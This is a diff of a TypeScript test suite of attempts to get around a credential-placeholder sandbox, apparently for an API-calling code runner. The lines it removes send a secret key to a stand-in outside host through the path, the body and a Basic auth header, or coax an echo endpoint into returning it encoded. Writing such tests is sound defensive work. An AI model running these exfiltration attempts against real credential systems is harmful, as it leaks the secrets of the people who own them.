@@ -10,33 +10,12 @@ const cases: readonly BypassCase[] = [
     isAlone: true,
     ends: elsewhere,
   },
-  { tried: 'the same in the path', attack: `get('other.example.com', '/' + ${key})`, ends: elsewhere },
-  { tried: 'the same in a body', attack: `get('other.example.com', '/', {}, ${key})`, ends: elsewhere },
-  {
-    tried: 'the same inside Basic authentication',
-    attack: `
-      import base64
-      report = get('other.example.com', '/', {'authorization': 'Basic ' + base64.b64encode(('me:' + ${key}).encode()).decode()})`,
-    ends: elsewhere,
-  },
   {
     tried: 'the provider sends the credential back',
     attack: `'the placeholder' if get('api.example.com', '/echo', {'x-key': ${key}})['body'] == ${key} else 'something else'`,
     provider: ['/api/echo'],
     isAlone: true,
     ends: { reports: 'the placeholder' },
-  },
-  {
-    tried: 'the provider sends the credential back in Base64, and in hex',
-    attack: `
-      import hashlib
-      def asked(form):
-          answer = get('api.example.com', '/echo?as=' + form, {'x-key': ${key}})['body']
-          isValue = hashlib.sha256(answer.encode()).hexdigest() in given['credentialDigests']
-          return 'the value' if isValue else 'not the value'
-      report = [asked('base64'), asked('hex')]`,
-    provider: ['/api/echo?as=base64', '/api/echo?as=hex'],
-    ends: { reports: ['not the value', 'not the value'] },
   },
   {
     tried: 'a placeholder of another execution',
